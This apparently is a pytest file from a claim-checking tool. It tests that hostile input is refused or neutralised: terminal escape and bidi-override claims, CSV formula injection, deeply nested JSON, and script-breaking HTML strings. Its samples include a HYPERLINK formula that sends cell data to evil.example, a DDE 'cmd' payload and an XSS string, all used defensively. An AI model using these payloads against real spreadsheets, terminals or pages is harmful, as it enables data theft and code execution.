"""Hostile text stays inert: claims checked the same at every entry point, CSV formulas, deep JSON, JSON Lines' line ends."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from corpora.jsonl import MAX_JSON_DEPTH, json_depth
from corpora.loaders import CorpusFileError, FileLoader
from pipelines.cli.main import main
from pipelines.core.errors import InvalidClaimError
from pipelines.core.text.safety import csv_cell, json_for_html, terminal_text
from pipelines.eval.datasets import DatasetError, load_jsonl
from pipelines.eval.harness import ClaimScore, EvalReport
from pipelines.eval.records import claims_csv
from pipelines.record.record_file import RecordError, load_record
from pipelines.record.store import RunStore
from pipelines.run.batch import BatchInputError, ClaimOutcome, parse_claims_file, parse_claims_text, to_csv
from pipelines.run.runner import Services, start_run, validate_claim
from tests.fakes import fake_config, hand_record
from tests.stores import store_url  # noqa: F401  (fixture)

HOSTILE_CLAIMS = {
    "NUL": "Masks work\x00 DROP",
    "ANSI colour": "Masks \x1b[31mwork\x1b[0m",
    "OSC title": "Masks work\x1b]0;pwned\x07",
    "BEL": "Masks work\x07",
    "C1 CSI": "Masks \x9b31m work",
    "backspace": "Masks work\x08\x08\x08fail",
    "bidi override": "Masks \u202ekrow\u202c work",
    "bidi isolate": "Masks \u2066work\u2069",
}
INVISIBLE_CLAIMS = {
    "zero-width space": "\u200b\u200b\u200b",
    "zero-width joiner and BOM": "\u200d\ufeff",
    "bidi marks": "\u200e\u200f",
    "word joiner": "\u2060 \u2060",
}


@pytest.mark.parametrize("claim", HOSTILE_CLAIMS.values(), ids=HOSTILE_CLAIMS.keys())
def test_control_characters_and_direction_overrides_are_refused_with_where_they_are(claim: str) -> None:
    with pytest.raises(InvalidClaimError, match=r"U\+[0-9A-F]{4}.* at character \d+"):
        validate_claim(claim)


@pytest.mark.parametrize("claim", INVISIBLE_CLAIMS.values(), ids=INVISIBLE_CLAIMS.keys())
def test_a_claim_of_invisible_characters_only_is_refused(claim: str) -> None:
    with pytest.raises(InvalidClaimError, match="no visible characters|control character|direction override"):
        validate_claim(claim)


def test_ordinary_claims_keep_their_text() -> None:
    assert validate_claim("  Masks\treduce\r\ntransmission  ").text == "Masks reduce transmission"
    assert validate_claim("Le vaccin réduit les décès 👩\u200d⚕️").text == "Le vaccin réduit les décès 👩\u200d⚕️"  # ZWJ inside an emoji
    assert validate_claim("اللقاحات آمنة").text == "اللقاحات آمنة"  # right-to-left text needs no override characters


def test_a_hostile_claim_never_reaches_either_store(store_url: str, services: Services) -> None:  # noqa: F811
    services.store = RunStore(store_url)
    for claim in HOSTILE_CLAIMS.values():
        with pytest.raises(InvalidClaimError):
            start_run(claim, fake_config(protocol="single"), services)
    assert services.store.list_runs() == []


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("claims.txt", "Masks work\nVaccines \x1b[2J cause nothing\n"),
        ("claims.csv", 'claim\nMasks work\n"Vaccines \x1b]0;x\x07 are safe"\n'),
        ("claims.jsonl", json.dumps({"claim": "ok claim"}) + "\n" + json.dumps({"claim": "\u200b\u200b"}) + "\n"),
    ],
)
def test_batch_files_refuse_a_hostile_claim_naming_it(filename: str, content: str) -> None:
    with pytest.raises(BatchInputError, match=rf"{filename}: claim 2 .*(U\+|no visible)"):
        parse_claims_file(content.encode(), filename)
    with pytest.raises(BatchInputError):
        parse_claims_text("Masks work\nx\x00y")


def test_an_imported_record_with_a_hostile_claim_is_refused(tmp_path: Path) -> None:
    claim = "Masks \x1b[31mwork"
    record = hand_record(claim)
    with pytest.raises(RecordError, match=r"run.claim contains a control character, U\+001B"):
        load_record(json.dumps(record))


def test_the_cli_refuses_a_hostile_claim_with_a_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DEBATEDESK_DATA_DIR", str(tmp_path))
    assert main(["verify", "Masks \x1b]0;pwned\x07work", "--backend", "fake"]) == 2
    err = capsys.readouterr().err
    assert "control character, U+001B" in err and "\x1b" not in err and "\x07" not in err


def test_terminal_text_shows_escapes_instead_of_obeying_them() -> None:
    assert terminal_text("a\x1b[31mb\x07c\u202ed\ttab\nline") == "a\\x1b[31mb\\x07c\\u202ed\ttab\nline"


# --- CSV -------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises_formulas(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell(-0.5) == -0.5 and csv_cell("Masks work") == "Masks work"


A_FAILED_CLAIM = {  # an evaluated claim's fields that hold no text a person typed
    "gold": "SUPPORTS",
    "predicted": None,
    "confidence": None,
    "correct": False,
    "evidence_recall": None,
    "document_found": None,
    "status": "failed",
}


def test_batch_and_evaluation_csv_downloads_carry_no_live_formula() -> None:
    outcomes = [
        ClaimOutcome(index=i, id=f"=id{i}", claim=value, status="failed", error=value, rationale=value, sources=(value,))
        for i, value in enumerate(FORMULAS)
    ]
    rows = list(csv.reader(io.StringIO(to_csv(outcomes), newline="")))[1:]
    scores = [ClaimScore(id=value, claim=value, verdict=value, error=value, **A_FAILED_CLAIM) for value in FORMULAS]
    rows += list(csv.reader(io.StringIO(claims_csv(EvalReport.model_construct(rows=scores)), newline="")))[1:]
    cells = [cell for row in rows for cell in row if cell]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- nested JSON -----------------------------------------------------------------------------


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def test_json_depth_counts_without_recursion_and_skips_strings() -> None:
    assert json_depth(deep(100_000)) == 100_000
    assert json_depth('{"a": "[[[[[[", "b": [{"c": "\\"]]"}]}') == 3


def test_a_deeply_nested_import_is_refused_naming_the_limit() -> None:
    body = '{"format": "debatedesk.run", "schema_version": 1, "run": ' + deep(50_000) + "}"
    with pytest.raises(RecordError, match=rf"the file: JSON nested 50001 levels deep; the limit is {MAX_JSON_DEPTH}"):
        load_record(body)


def test_deeply_nested_corpus_batch_and_dataset_lines_are_refused(tmp_path: Path) -> None:
    line = '{"text": "x", "extra": ' + deep(20_000) + "}\n"
    corpus = tmp_path / "notes.jsonl"
    corpus.write_text('{"text": "fine"}\n' + line)
    with pytest.raises(CorpusFileError, match=rf"notes.jsonl line 2: JSON nested .* the limit is {MAX_JSON_DEPTH}"):
        list(FileLoader([corpus]).load_documents())
    with pytest.raises(BatchInputError, match=r"claims.jsonl line 1: JSON nested"):
        parse_claims_file(('{"claim": "x", "y": ' + deep(20_000) + "}\n").encode(), "claims.jsonl")
    dataset = tmp_path / "gold.jsonl"
    dataset.write_text('{"claim": "x", "label": "SUPPORTS", "evidence": ' + deep(20_000) + "}\n")
    with pytest.raises(DatasetError, match=r"gold.jsonl line 1: JSON nested"):
        load_jsonl(dataset)


def test_the_cli_import_of_a_deep_file_says_why_without_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DEBATEDESK_DATA_DIR", str(tmp_path))
    path = tmp_path / "deep.json"
    path.write_text(deep(100_000))
    assert main(["import", str(path), "--by", "Ben"]) == 2
    err = capsys.readouterr().err
    assert "the limit is" in err and "Traceback" not in err and "RecursionError" not in err


# --- JSON Lines' line ends -------------------------------------------------------------------


def test_jsonl_with_unicode_line_separators_inside_strings_is_read_whole(tmp_path: Path) -> None:
    text = "Masks reduce\u2028transmission.\u2029Second\x85part\x0cthird."
    path = tmp_path / "seps.jsonl"
    path.write_text(json.dumps({"id": "d1", "text": text}, ensure_ascii=False) + "\r\n" + json.dumps({"text": "two"}) + "\n")
    documents = list(FileLoader([path]).load_documents())
    assert [d.id for d in documents] == ["d1", "seps-2"]
    items = parse_claims_file((json.dumps({"claim": "a\u2028b"}, ensure_ascii=False) + "\n").encode(), "c.jsonl")
    assert len(items) == 1


# --- JSON for HTML ---------------------------------------------------------------------------


def test_json_for_html_escapes_what_could_close_a_script_block_and_parses_the_same() -> None:
    value = {"x": "</script><script>alert(1)</script><!-- & \u2028\u2029"}
    text = json_for_html(value)
    assert not any(c in text for c in "<>&\u2028\u2029")
    assert json.loads(text) == value
